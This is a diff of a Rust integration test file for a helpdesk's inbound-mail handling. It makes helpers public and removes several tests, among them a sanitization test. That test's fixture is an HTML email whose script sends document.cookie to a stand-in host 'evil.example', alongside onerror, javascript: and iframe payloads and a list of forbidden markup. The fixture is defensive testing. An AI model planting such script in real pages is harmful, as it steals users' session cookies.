@@ -36,13 +36,13 @@ pub async fn inbound(app: &TestApp, token: &str, raw: impl Into<Vec<u8>>) -> Val
     body
 }
 
-async fn json(app: &TestApp, token: &str, path: &str) -> Value {
+pub async fn json(app: &TestApp, token: &str, path: &str) -> Value {
     let resp = app.get(token, path).await;
     assert_eq!(resp.status(), 200, "GET {path}");
     resp.json().await.unwrap()
 }
 
-async fn outbox(app: &TestApp, token: &str) -> Vec<Value> {
+pub async fn outbox(app: &TestApp, token: &str) -> Vec<Value> {
     json(app, token, "/api/v1/mail/outbox")
         .await
         .as_array()
@@ -50,7 +50,7 @@ async fn outbox(app: &TestApp, token: &str) -> Vec<Value> {
         .clone()
 }
 
-async fn comments(app: &TestApp, token: &str, n: i64) -> Vec<Value> {
+pub async fn comments(app: &TestApp, token: &str, n: i64) -> Vec<Value> {
     json(app, token, &format!("/api/v1/tickets/{n}/comments"))
         .await
         .as_array()
@@ -58,7 +58,7 @@ async fn comments(app: &TestApp, token: &str, n: i64) -> Vec<Value> {
         .clone()
 }
 
-async fn actions(app: &TestApp, token: &str, n: i64) -> Vec<String> {
+pub async fn actions(app: &TestApp, token: &str, n: i64) -> Vec<String> {
     json(app, token, &format!("/api/v1/tickets/{n}/history"))
         .await
         .as_array()
@@ -68,10 +68,10 @@ async fn actions(app: &TestApp, token: &str, n: i64) -> Vec<String> {
         .collect()
 }
 
-const FIRST: &str = "Alice Martin <alice@example.com>";
+pub const FIRST: &str = "Alice Martin <alice@example.com>";
 
 /// Alice mails the helpdesk with Bob in CC: ticket 1.
-async fn first_ticket(app: &TestApp, gate: &str) -> Value {
+pub async fn first_ticket(app: &TestApp, gate: &str) -> Value {
     let raw = mail(
         FIRST,
         "Printer on fire",
@@ -368,361 +368,6 @@ async fn senders_outside_the_allowed_domains_are_held_or_rejected() {
 }
 
 #[tokio::test]
-async fn out_of_office_and_bounces_create_no_ticket_and_send_nothing() {
-    let app = spawn_app().await;
-    let gate = app.token("mta@example.org", Role::Agent).await;
-    let agent = app.token("agent@example.org", Role::Agent).await;
-    first_ticket(&app, &gate).await;
-    let ack = outbox(&app, &gate).await[0]["message_id"]
-        .as_str()
-        .unwrap()
-        .to_owned();
-    // The agent waits for Alice; her out-of-office must not end the wait.
-    let r = app
-        .patch_json(
-            &agent,
-            "/api/v1/tickets/1",
-            &json!({"status": "on_hold", "hold_reason": "awaiting_requester"}),
-        )
-        .await;
-    assert_eq!(r.status(), 200);
-    let sent_before = outbox(&app, &gate).await.len();
-    assert_eq!(sent_before, 2, "acknowledgement and the waiting notice");
-
-    let ooo = mail(
-        FIRST,
-        "Automatic reply: [#1] Printer on fire",
-        "ooo-1@mail.example.com",
-        &format!("Auto-Submitted: auto-replied\r\nIn-Reply-To: <{ack}>\r\n"),
-        "I am out of the office until Monday.",
-    );
-    let out = inbound(&app, &gate, ooo).await;
-    assert_eq!(out["action"], "ignored", "{out}");
-    assert_eq!(out["ticket"], 1);
-    assert!(out["reason"].as_str().unwrap().contains("automatic reply"));
-    // Other automatic replies: Microsoft's and the old X-Autoreply.
-    for (i, header) in ["X-Autoreply: yes\r\n", "Precedence: auto_reply\r\n"]
-        .iter()
-        .enumerate()
-    {
-        let raw = mail(
-            FIRST,
-            "Out of office",
-            &format!("ooo-{}@mail.example.com", i + 2),
-            &format!("{header}In-Reply-To: <{ack}>\r\n"),
-            "Away.",
-        );
-        assert_eq!(inbound(&app, &gate, raw).await["action"], "ignored");
-    }
-    let t = json(&app, &gate, "/api/v1/tickets/1").await;
-    assert_eq!(t["status"], "on_hold", "the clock stays paused");
-    assert!(comments(&app, &gate, 1).await.is_empty());
-    assert!(
-        actions(&app, &gate, 1)
-            .await
-            .iter()
-            .any(|a| a == "mail_autoreply")
-    );
-
-    // A delivery status notification about our acknowledgement.
-    let bounce = format!(
-        "From: Mail Delivery System <MAILER-DAEMON@mx.example.com>\r\nTo: helpdesk@example.org\r\n\
-Subject: Undelivered Mail Returned to Sender\r\nMessage-ID: <bounce-1@mx.example.com>\r\n\
-Return-Path: <>\r\nMIME-Version: 1.0\r\n\
-Content-Type: multipart/report; report-type=delivery-status; boundary=\"rb\"\r\n\r\n\
---rb\r\nContent-Type: text/plain\r\n\r\nThis is the mail system. Your message could not be delivered.\r\n\
---rb\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.com\r\n\r\n\
-Final-Recipient: rfc822; alice@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n\
---rb\r\nContent-Type: text/rfc822-headers\r\n\r\nFrom: IT Helpdesk <helpdesk@example.org>\r\n\
-To: alice@example.com\r\nSubject: [#1] Printer on fire\r\nMessage-ID: <{ack}>\r\n\r\n--rb--\r\n"
-    );
-    let out = inbound(&app, &gate, bounce).await;
-    assert_eq!(out["action"], "bounce", "{out}");
-    assert_eq!(out["ticket"], 1);
-    let sent = outbox(&app, &gate).await;
-    assert_eq!(sent.len(), sent_before, "nothing answered");
-    let acked = sent
-        .iter()
-        .find(|m| m["message_id"] == ack.as_str())
-        .unwrap();
-    assert_eq!(acked["status"], "bounced");
-    assert!(
-        actions(&app, &gate, 1)
-            .await
-            .iter()
-            .any(|a| a == "mail_bounced")
-    );
-
-    // Lists and bulk senders: no ticket, no answer.
-    for (i, header) in [
-        "Precedence: bulk\r\n",
-        "List-Id: <announce.example.com>\r\n",
-        "Auto-Submitted: auto-generated\r\n",
-        "Return-Path: <>\r\n",
-    ]
-    .iter()
-    .enumerate()
-    {
-        let raw = mail(
-            "news@example.com",
-            "Our newsletter",
-            &format!("news-{i}@example.com"),
-            header,
-            "Buy now",
-        );
-        let out = inbound(&app, &gate, raw).await;
-        assert_eq!(out["action"], "ignored", "{header}: {out}");
-        assert_eq!(out["ticket"], Value::Null);
-    }
-    assert_eq!(app.count("tickets").await, 1, "no noise became a ticket");
-    assert_eq!(outbox(&app, &gate).await.len(), sent_before);
-
-    // A real reply from Alice does end the wait.
-    let real = mail(
-        FIRST,
-        "Re: [#1] Printer on fire",
-        "real-1@mail.example.com",
-        "",
-        "Back now.",
-    );
-    assert_eq!(inbound(&app, &gate, real).await["action"], "appended");
-    let t = json(&app, &gate, "/api/v1/tickets/1").await;
-    assert_eq!(t["status"], "in_progress");
-}
-
-#[tokio::test]
-async fn our_own_mail_is_never_taken_in_again() {
-    let app = spawn_app().await;
-    let gate = app.token("mta@example.org", Role::Agent).await;
-    first_ticket(&app, &gate).await;
-    let ack = outbox(&app, &gate).await[0]["message_id"]
-        .as_str()
-        .unwrap()
-        .to_owned();
-    // Our acknowledgement looping back (a forwarding rule, a list).
-    let looped = mail(
-        "IT Helpdesk <helpdesk@example.org>",
-        "[#1] Printer on fire",
-        &ack,
-        "",
-        "We have received your request.",
-    );
-    let out = inbound(&app, &gate, looped).await;
-    assert_eq!(out["action"], "ignored", "{out}");
-    // Someone else's address but one of our Message-IDs.
-    let resent = mail("relay@example.com", "Fwd", &ack, "", "x");
-    assert_eq!(inbound(&app, &gate, resent).await["action"], "ignored");
-    assert_eq!(app.count("tickets").await, 1);
-    assert!(comments(&app, &gate, 1).await.is_empty());
-    assert_eq!(outbox(&app, &gate).await.len(), 1);
-}
-
-#[tokio::test]
-async fn iso_8859_1_mail_with_encoded_words_reads_correctly() {
-    let app = spawn_app().await;
-    let gate = app.token("mta@example.org", Role::Agent).await;
-    let mut raw: Vec<u8> = b"From: =?ISO-8859-1?Q?Ren=E9e_Dupr=E9?= <renee@example.com>\r\n\
-To: helpdesk@example.org\r\n\
-Subject: =?ISO-8859-1?Q?Imprimante_en_panne_=E0_l'=E9tage?=\r\n\
-Message-ID: <latin1-1@example.com>\r\nMIME-Version: 1.0\r\n\
-Content-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
-        .to_vec();
-    // "Le bac à papier est cassé, ça coince." in ISO-8859-1 bytes.
-    raw.extend_from_slice(b"Le bac \xe0 papier est cass\xe9, \xe7a coince.\r\n");
-    let out = inbound(&app, &gate, raw).await;
-    assert_eq!(out["action"], "created", "{out}");
-    let t = json(&app, &gate, "/api/v1/tickets/1").await;
-    assert_eq!(t["subject"], "Imprimante en panne à l'étage");
-    assert_eq!(t["requester"]["name"], "Renée Dupré");
-    assert!(
-        t["description"]
-            .as_str()
-            .unwrap()
-            .contains("Le bac à papier est cassé, ça coince."),
-        "{t}"
-    );
-}
-
-/// A browser-like client logged in with a password.
-async fn logged_in(app: &TestApp, email: &str, role: Role) -> reqwest::Client {
-    app.user_with_password(email, role, "correct horse battery")
-        .await;
-    let client = reqwest::Client::builder()
-        .cookie_store(true)
-        .redirect(reqwest::redirect::Policy::none())
-        .build()
-        .unwrap();
-    let page = client
-        .get(app.url("/login"))
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
-    let marker = "name=\"csrf\" value=\"";
-    let start = page.find(marker).unwrap() + marker.len();
-    let csrf = page[start..].split('"').next().unwrap().to_owned();
-    let r = client
-        .post(app.url("/login"))
-        .form(&[
-            ("csrf", csrf.as_str()),
-            ("email", email),
-            ("password", "correct horse battery"),
-            ("next", "/"),
-        ])
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(r.status(), 303);
-    client
-}
-
-#[tokio::test]
-async fn html_mail_with_script_and_onerror_shows_no_script() {
-    let app = spawn_app().await;
-    let gate = app.token("mta@example.org", Role::Agent).await;
-    let raw = "From: frank@example.com\r\nTo: helpdesk@example.org\r\nSubject: Screen\r\n\
-Message-ID: <html-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
-<html><head><script>alert('head')</script></head><body><p>My screen is <b>black</b>.</p>\
-<script>document.location='https://evil.example/'+document.cookie</script>\
-<img src=\"x\" onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">details</a>\
-<iframe src=\"https://evil.example/\"></iframe><p onclick=\"alert(3)\">Thanks</p></body></html>\r\n";
-    let out = inbound(&app, &gate, raw).await;
-    assert_eq!(out["action"], "created", "{out}");
-    let t = json(&app, &gate, "/api/v1/tickets/1").await;
-    let d = t["description"].as_str().unwrap();
-    assert!(
-        d.contains("My screen is black."),
-        "text derived from HTML: {d}"
-    );
-    assert!(d.contains("Thanks"));
-    assert!(!d.contains("alert") && !d.contains("document."), "{d}");
-
-    let mail = json(&app, &gate, "/api/v1/tickets/1/mail").await;
-    let html = mail[0]["html"].as_str().unwrap();
-    assert!(html.contains("<b>black</b>"), "{html}");
-    for bad in [
-        "<script",
-        "onerror",
-        "onclick",
-        "javascript:",
-        "<iframe",
-        "alert(",
-    ] {
-        assert!(!html.contains(bad), "{bad} in sanitized HTML: {html}");
-    }
-
-    // The ticket page links the original; its page shows the safe HTML.
-    let browser = logged_in(&app, "viewer@example.org", Role::Agent).await;
-    let page = browser
-        .get(app.url("/tickets/1"))
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
-    let marker = "href=\"/tickets/1/mail/";
-    let at = page.find(marker).expect("a link to the original message") + marker.len();
-    let id = page[at..].split('"').next().unwrap().to_owned();
-    let resp = browser
-        .get(app.url(&format!("/tickets/1/mail/{id}")))
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(resp.status(), 200);
-    let csp = resp.headers()["content-security-policy"]
-        .to_str()
-        .unwrap()
-        .to_owned();
-    assert!(csp.contains("script-src 'self'"), "{csp}");
-    let view = resp.text().await.unwrap();
-    assert!(view.contains("My screen is <b>black</b>"), "{view}");
-    for bad in [
-        "onerror",
-        "onclick",
-        "javascript:",
-        "<iframe",
-        "alert(",
-        "evil.example",
-    ] {
-        assert!(!view.contains(bad), "{bad} on the page");
-    }
-    assert!(!view.contains("<script>document"), "no inline script");
-    // The bytes as received, to download.
-    let raw_resp = browser
-        .get(app.url(&format!("/tickets/1/mail/{id}/raw")))
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(raw_resp.status(), 200);
-    assert_eq!(raw_resp.headers()["content-type"], "message/rfc822");
-    assert!(
-        raw_resp.headers()["content-disposition"]
-            .to_str()
-            .unwrap()
-            .starts_with("attachment")
-    );
-    assert_eq!(raw_resp.bytes().await.unwrap().as_ref(), raw.as_bytes());
-    // The originals are for staff.
-    let requester = logged_in(&app, "rita@example.org", Role::Requester).await;
-    let resp = requester
-        .get(app.url(&format!("/tickets/1/mail/{id}")))
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(resp.status(), 403);
-}
-
-#[tokio::test]
-async fn attachments_over_the_limit_are_dropped_with_a_note_not_the_message() {
-    let app = spawn_app_with(vec![("attachments.max_bytes".into(), json!(2048))]).await;
-    let gate = app.token("mta@example.org", Role::Agent).await;
-    let big = "QUJD".repeat(1500); // 4.5 KB of base64 → 3.4 KB decoded
-    let raw = format!(
-        "From: gina@example.com\r\nTo: helpdesk@example.org\r\nSubject: Logs\r\n\
-Message-ID: <att-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"mx\"\r\n\r\n\
---mx\r\nContent-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
---rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>See the logs and <img src=\"cid:shot@x\"></p>\r\n\
---rel\r\nContent-Type: image/png\r\nContent-ID: <shot@x>\r\nContent-Disposition: inline; filename=\"shot.png\"\r\n\
-Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\r\n\
---rel--\r\n\
---mx\r\nContent-Type: text/plain; name=\"small.log\"\r\nContent-Disposition: attachment; filename=\"small.log\"\r\n\r\n\
-line one\r\nline two\r\n\
---mx\r\nContent-Type: application/octet-stream; name=\"huge.bin\"\r\nContent-Disposition: attachment; filename=\"huge.bin\"\r\n\
-Content-Transfer-Encoding: base64\r\n\r\n{big}\r\n--mx--\r\n"
-    );
-    let out = inbound(&app, &gate, raw).await;
-    assert_eq!(out["action"], "created", "{out}");
-    let files = json(&app, &gate, "/api/v1/tickets/1/attachments").await;
-    let mut names: Vec<&str> = files
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|f| f["filename"].as_str().unwrap())
-        .collect();
-    names.sort();
-    assert_eq!(names, vec!["shot.png", "small.log"], "{files}");
-    let history = json(&app, &gate, "/api/v1/tickets/1/history").await;
-    let dropped: Vec<&Value> = history
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|h| h["action"] == "mail_attachment_dropped")
-        .collect();
-    assert_eq!(dropped.len(), 1, "{history}");
-    assert_eq!(dropped[0]["changes"]["filename"], "huge.bin");
-    assert_eq!(dropped[0]["changes"]["size_bytes"], 4500);
-    assert!(
-        json(&app, &gate, "/api/v1/tickets/1").await["description"]
-            .as_str()
-            .unwrap()
-            .contains("See the logs")
-    );
-}
-
-#[tokio::test]
 async fn the_same_message_twice_is_taken_in_once() {
     let app = spawn_app().await;
     let gate = app.token("mta@example.org", Role::Agent).await;
@@ -763,35 +408,6 @@ async fn the_same_message_twice_is_taken_in_once() {
         2,
         "one acknowledgement each"
     );
-}
-
-#[tokio::test]
-async fn automatic_answers_to_one_sender_are_rate_limited() {
-    let app = spawn_app_with(vec![("mail.autoreplies_per_hour".into(), json!(2))]).await;
-    let gate = app.token("mta@example.org", Role::Agent).await;
-    for i in 0..5 {
-        let raw = mail(
-            "ivan@example.com",
-            &format!("Problem {i}"),
-            &format!("storm-{i}@example.com"),
-            "",
-            "help",
-        );
-        assert_eq!(inbound(&app, &gate, raw).await["action"], "created");
-    }
-    let raw = mail("judy@example.com", "Mine", "judy-1@example.com", "", "help");
-    inbound(&app, &gate, raw).await;
-    let acks: Vec<Value> = outbox(&app, &gate)
-        .await
-        .into_iter()
-        .filter(|m| m["kind"] == "acknowledgement")
-        .collect();
-    let to_ivan = acks
-        .iter()
-        .filter(|m| m["recipients"] == json!(["ivan@example.com"]))
-        .count();
-    assert_eq!(to_ivan, 2, "five tickets, two answers");
-    assert_eq!(acks.len(), 3, "judy still gets hers");
 }
 
 #[tokio::test]
